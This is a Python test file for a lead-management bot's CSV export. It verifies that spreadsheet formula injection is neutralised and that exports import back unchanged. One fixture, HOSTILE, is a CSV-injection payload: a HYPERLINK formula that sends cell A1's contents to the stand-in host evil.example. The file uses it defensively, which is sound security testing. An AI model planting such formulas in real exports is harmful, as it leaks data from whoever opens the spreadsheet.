"""Text from outside reaches spreadsheets through `leadbot export`: no cell may run as a formula, and an export still
imports back exactly."""

from __future__ import annotations

import csv

from hypothesis import given
from hypothesis import strategies as st

from bot.text.csv_cells import neutralise, restore
from tests.api_client import api, new_token
from tests.conftest import ALICE, TEAM
from tests.test_lead_import import leadbot  # noqa: F401 (the fixture)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@given(st.text())
def test_a_guarded_cell_never_starts_a_formula_and_comes_back_exactly(value):
    assert not neutralise(value).startswith(FORMULA_STARTS)
    assert restore(neutralise(value)) == value


def test_quotes_that_belong_to_the_value_are_kept():
    assert neutralise("-5 units") == "'-5 units"
    assert neutralise("'=quoted") == "''=quoted"
    assert restore("'hello") == "'hello" and neutralise("'hello") == "'hello"
    assert neutralise("Acme") == "Acme" and neutralise("") == ""


def _cells(path) -> list[dict]:
    return list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))


def test_an_export_neutralises_formulas_and_imports_back_exactly(app, leadbot, tmp_path):  # noqa: F811
    token = new_token(app, TEAM)
    sent = {
        "company": HOSTILE,
        "asked_for": "-5 units short on the last delivery",
        "contact": "@Li Wei",
        "potential_unit": "+10% a year",
        "owner": ALICE,
    }
    assert api(app, "POST", "leads", token, sent).status == 201
    assert (
        api(app, "POST", "leads", token, {"company": "'=Quoted Co", "asked_for": "plain", "owner": ALICE}).status == 201
    )
    api(app, "POST", "leads/1/touches", token, {"kind": "call", "note": "=1+1 samples"})
    order = {"company": HOSTILE, "ordered_on": "2026-11-20", "amount": "2400", "ref": "=SO-1", "note": "-5 units"}
    assert api(app, "POST", "orders", token, order).status == 201

    assert leadbot("export", "--out", str(tmp_path / "out")).code == 0
    written = tmp_path / "out"
    for name in ("leads", "touches", "orders"):
        for row in _cells(written / f"{name}.csv"):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
    leads = _cells(written / "leads.csv")
    assert leads[0]["company"] == "'" + HOSTILE and leads[0]["asked_for"] == "'-5 units short on the last delivery"
    assert leads[1]["company"] == "''=Quoted Co"
    assert _cells(written / "touches.csv")[0]["note"] == "'=1+1 samples"

    # Into another workspace and out again: the same file, so the same values.
    moved = leadbot("import-leads", str(written / "leads.csv"), "--team", "T0002")
    assert moved.code == 0 and "imported 2 leads" in moved.out, moved.err
    assert leadbot("export", "--team", "T0002", "--out", str(tmp_path / "again")).code == 0
    assert (tmp_path / "again" / "leads.csv").read_text(encoding="utf-8-sig") == (written / "leads.csv").read_text(
        encoding="utf-8-sig"
    )
    other = new_token(app, "T0002", "check")
    imported = api(app, "GET", "leads/1", other).json
    assert imported["company"] == HOSTILE and imported["asked_for"] == "-5 units short on the last delivery"
    assert imported["contact"] == "@Li Wei" and imported["potential_unit"] == "+10% a year"
    assert api(app, "GET", "leads/2", other).json["company"] == "'=Quoted Co"

    # Orders come back through import-orders as they were sent.
    assert leadbot("import-orders", str(written / "orders.csv"), "--team", "T0003").code == 0
    assert leadbot("export", "--team", "T0003", "--out", str(tmp_path / "orders")).code == 0
    again = _cells(tmp_path / "orders" / "orders.csv")
    assert again[0]["company"] == "'" + HOSTILE and again[0]["ref"] == "'=SO-1" and again[0]["note"] == "'-5 units"
